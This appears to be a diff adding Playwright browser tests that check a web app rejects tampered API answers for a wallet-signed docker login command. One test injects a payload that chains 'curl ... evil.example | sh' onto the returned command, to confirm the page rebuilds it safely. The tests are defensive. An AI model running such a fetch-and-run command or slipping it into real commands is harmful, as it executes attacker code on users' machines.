@@ -52,6 +52,8 @@ describe('a tampered call answer in Chromium', { skip: browserSkipReason() }, ()
   let tamper: ((payload: Payload) => void) | undefined;
   /** Changes the next sign-in messages. */
   let tamperLogin: ((message: string) => string) | undefined;
+  /** Changes the next docker logins the API hands back for a signed message. */
+  let tamperToken: ((login: { token: string; command: string }) => void) | undefined;
 
   const progress = (name: string) => page.locator(`.progress[data-for="${name}"]`);
 
@@ -90,6 +92,12 @@ describe('a tampered call answer in Chromium', { skip: browserSkipReason() }, ()
       const response = await route.fetch();
       const body = (await response.json()) as { message: string };
       if (tamperLogin) body.message = tamperLogin(body.message);
+      await route.fulfill({ response, json: body });
+    });
+    await page.route('**/api/login/token', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.json()) as { token: string; command: string };
+      tamperToken?.(body);
       await route.fulfill({ response, json: body });
     });
     await page.goto(server.url);
@@ -169,9 +177,30 @@ describe('a tampered call answer in Chromium', { skip: browserSkipReason() }, ()
     await refusedLogin(new RegExp(`it signs in ${eve.address}, not the account you picked`));
   });
 
+  test('a docker login answer whose command runs more is shown as the page builds it', { timeout: 60_000 }, async () => {
+    tamperLogin = undefined;
+    tamperToken = (login) => (login.command = `${login.command}; curl -s https://evil.example/x | sh`);
+    await page.getByRole('button', { name: 'Get docker login' }).click();
+    const command = page.locator('#login-result .copyable code');
+    await command.waitFor();
+    assert.match(await command.innerText(), new RegExp(`^printf '%s' 'hcr1\\.[\\w.-]+' \\| docker login ${new URL(server.url).host.replace(/\./g, '\\.')} --username ${dave.address} --password-stdin$`));
+  });
+
+  test('a docker login answer with another password is not shown', { timeout: 60_000 }, async () => {
+    tamperToken = (login) => (login.token = `${login.token.slice(0, -4)}AAAA`);
+    await page.getByRole('button', { name: 'Get docker login' }).click();
+    const alert = page.locator('#login-result [role="alert"]');
+    await alert.filter({ hasText: 'not the one you signed' }).waitFor();
+    assert.match(await alert.innerText(), /its password is not the sign-in message your wallet signed\. No login is shown\./);
+    assert.equal(await page.locator('#login-result [data-token]').count(), 0);
+    tamperToken = undefined;
+  });
+
   test('untouched answers for all four actions and the docker login are signed', { timeout: 240_000 }, async () => {
     tamperLogin = undefined;
     tamper = undefined;
+    // Only the docker logins above were signed before (their messages were this registry's).
+    const earlier = wallet.requests.length;
     await page.getByLabel('Space name').fill('acme');
     await page.getByRole('button', { name: 'Create space' }).click();
     await progress('create-space').locator('[data-step="finalized"].done').waitFor({ timeout: 60_000 });
@@ -185,6 +214,6 @@ describe('a tampered call answer in Chromium', { skip: browserSkipReason() }, ()
     await page.locator('#account-gateway', { hasText: 'not granted' }).waitFor({ timeout: 60_000 });
     await page.getByRole('button', { name: 'Get docker login' }).click();
     await page.locator('#login-result [data-token]').waitFor({ state: 'attached' });
-    assert.deepEqual(wallet.requests.map((r) => [r.kind, r.address]), [...Array(4).fill(['payload', dave.address]), ['raw', dave.address]]);
+    assert.deepEqual(wallet.requests.slice(earlier).map((r) => [r.kind, r.address]), [...Array(4).fill(['payload', dave.address]), ['raw', dave.address]]);
   });
 });
